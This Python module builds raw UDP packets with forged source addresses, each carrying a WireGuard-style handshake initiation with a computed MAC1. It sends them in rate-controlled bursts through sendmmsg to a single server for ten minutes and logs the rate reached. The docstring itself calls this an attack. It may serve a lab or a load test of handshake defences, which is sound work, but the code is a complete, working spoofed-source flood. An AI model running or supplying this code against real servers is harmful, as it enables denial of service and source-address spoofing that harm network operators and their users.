"""Datagrams from forged addresses, made once and sent many at a time, and the progress of an attack."""

import ctypes
import hashlib
import os
import socket
import struct
import time

SERVER = socket.inet_aton("198.51.100.2")
# Of sendmmsg(2).
BURST = 100


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("len", ctypes.c_size_t)]


class Msg(ctypes.Structure):
    _fields_ = [
        ("name", ctypes.c_char_p), ("namelen", ctypes.c_uint), ("iov", ctypes.POINTER(Iovec)),
        ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
        ("flags", ctypes.c_int), ("pad", ctypes.c_int), ("sent", ctypes.c_uint), ("end", ctypes.c_uint),
    ]  # fmt: skip


assert ctypes.sizeof(Msg) == 64


def initiation(key, body):
    """The first message of a handshake with a right MAC1, without MAC2; `body` is 112 bytes."""
    message = bytes([1, 0, 0, 0]) + body
    mac_key = hashlib.blake2s(b"mac1----" + key).digest()
    return message + hashlib.blake2s(message, key=mac_key, digest_size=16).digest()


class Datagrams:
    """UDP datagrams to the server, each with a source address of its own."""

    def __init__(self, count):
        self.messages = (Msg * count)()
        self.to = struct.pack("=H", socket.AF_INET) + bytes(2) + SERVER + bytes(8)
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sendmmsg = ctypes.CDLL(None, use_errno=True).sendmmsg

    def put(self, place, source, port, to_port, message):
        udp = struct.pack(">HHHH", port, to_port, 8 + len(message), 0) + message
        packet = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + source + SERVER + udp
        iov = Iovec(packet, len(packet))
        self.messages[place] = Msg(self.to, 16, ctypes.pointer(iov), 1, None, 0, 0, 0, 0, 0)

    def send(self, place, count):
        """How many of the `count` datagrams from `place` on were sent."""
        at = ctypes.byref(self.messages, place * ctypes.sizeof(Msg))
        sent = self.sendmmsg(self.socket.fileno(), at, min(BURST, count), 0)
        assert sent > 0, ctypes.get_errno()
        return sent

    def repeat(self, count, rate, progress, seconds=600):
        """Sends the first `count` datagrams in turn, `rate` a second; `progress` has the rate reached."""
        start, sent = time.monotonic(), 0
        while (now := time.monotonic()) - start < seconds:
            at = sent % count
            sent += self.send(at, count - at)
            if (ahead := sent / rate - (now - start)) > 0:
                time.sleep(ahead)
            progress("%.0f initiations a second" % (sent / (time.monotonic() - start)))


class Progress:
    """Writes a line to the file $STATE, twice a second at most."""

    def __init__(self):
        self.path, self.then = os.environ["STATE"], time.monotonic()

    def __call__(self, line):
        now = time.monotonic()
        if now - self.then > 0.5:
            self.then = now
            with open(self.path + ".new", "w") as file:
                print(line, file=file)
            os.rename(self.path + ".new", self.path)
